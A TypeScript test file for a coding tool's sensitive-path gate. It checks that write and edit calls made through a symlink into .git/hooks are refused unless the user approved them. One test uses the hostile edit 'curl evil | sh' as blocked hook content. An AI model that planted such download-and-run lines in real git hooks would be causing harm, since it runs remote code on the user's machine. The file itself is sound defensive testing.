// The sensitive places at the moment of the write (issue 28): `sensitiveGate` and the write and
// edit tools through `ctx.sandbox.open_for_write` with the sandbox off, against a link into
// `.git/hooks`, a place the user approved, and a file the open itself created.
import { mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

import { createExecutionContext } from '../../src/core/tools/context.js';
import { editTool } from '../../src/core/tools/definitions/edit.js';
import { writeTool } from '../../src/core/tools/definitions/write.js';
import type { ToolContext, ToolDefinition, ToolOutcome } from '../../src/core/tools/registry.js';
import { sensitiveGate } from '../../src/core/tools/sandbox/gate.js';
import { sensitiveEntries } from '../../src/core/tools/sandbox/sensitive.js';
import { fileTempDir } from '../helpers/temp.js';

const root = fileTempDir('flemma-gate-');

const { entries } = sensitiveEntries(undefined, { home: '/nonexistent-home', env: {} });

function project(name: string): string {
  const p = join(root(), name);
  mkdirSync(join(p, '.git', 'hooks'), { recursive: true });
  mkdirSync(join(p, 'plain'));
  symlinkSync(join(p, '.git', 'hooks'), join(p, 'sw'));
  return p;
}

function context(base: string, approved: readonly string[]): ToolContext {
  return createExecutionContext(
    { bufnr: 1, cwd: base, timeout: 10, toolId: 't', gate: sensitiveGate(entries, approved) },
    '/nonexistent-home',
  );
}

function run(tool: ToolDefinition, input: unknown, ctx: ToolContext): Promise<ToolOutcome> {
  const execute = tool.execute;
  if (execute === undefined) throw new Error('no execute');
  return execute(input, ctx);
}

describe('sensitiveGate', () => {
  it('refuses a sensitive real location unless it was approved; directories on the way pass', () => {
    const gate = sensitiveGate(entries, ['/p/.git/hooks/pre-commit']);
    expect(gate.refusal('/p/.git/hooks/pre-commit')).toBeUndefined();
    expect(gate.refusal('/p/.git/hooks')).toBeUndefined();
    expect(gate.refusal('/p/.git/hooks/post-commit')).toBe('.git (built in)');
    expect(gate.refusal('/p/Makefile')).toBe('Makefile (built in)');
    expect(gate.refusal('/p/src/main.ts')).toBeUndefined();
    expect(sensitiveGate(entries, []).refusal('/p/.GIT/config')).toBe('.git (built in)');
  });
});

describe('writes through a link into a sensitive place', () => {
  it('write and edit refuse it, say so, and leave nothing behind', async () => {
    const p = project('refused');
    writeFileSync(join(p, '.git', 'hooks', 'pre-push'), 'ORIGINAL\n');
    const ctx = context(p, []);
    const written = await run(writeTool, { path: 'sw/pre-commit', content: 'x' }, ctx);
    expect(written.ok).toBe(false);
    expect(written.ok ? '' : written.error).toMatch(
      /^Sensitive place: write denied – .*sw\/pre-commit leads to .*\.git\/hooks\/pre-commit, under \.git \(built in\); the path changed to a sensitive place after approval/,
    );
    const edited = await run(
      editTool,
      { path: 'sw/pre-push', oldText: 'ORIGINAL', newText: 'curl evil | sh' },
      ctx,
    );
    expect(edited.ok).toBe(false);
    expect(readdirSync(join(p, '.git', 'hooks'))).toEqual(['pre-push']);
    expect(readFileSync(join(p, '.git', 'hooks', 'pre-push'), 'utf8')).toBe('ORIGINAL\n');
    // A plain path is written as before.
    expect((await run(writeTool, { path: 'plain/a.txt', content: 'a' }, ctx)).ok).toBe(true);
  });

  it('writes a place the user approved for this call', async () => {
    const p = project('approved');
    const hook = join(p, '.git', 'hooks', 'pre-commit');
    const ctx = context(p, [join(p, 'sw', 'pre-commit'), hook]);
    expect((await run(writeTool, { path: 'sw/pre-commit', content: 'ok\n' }, ctx)).ok).toBe(true);
    expect(readFileSync(hook, 'utf8')).toBe('ok\n');
  });
});
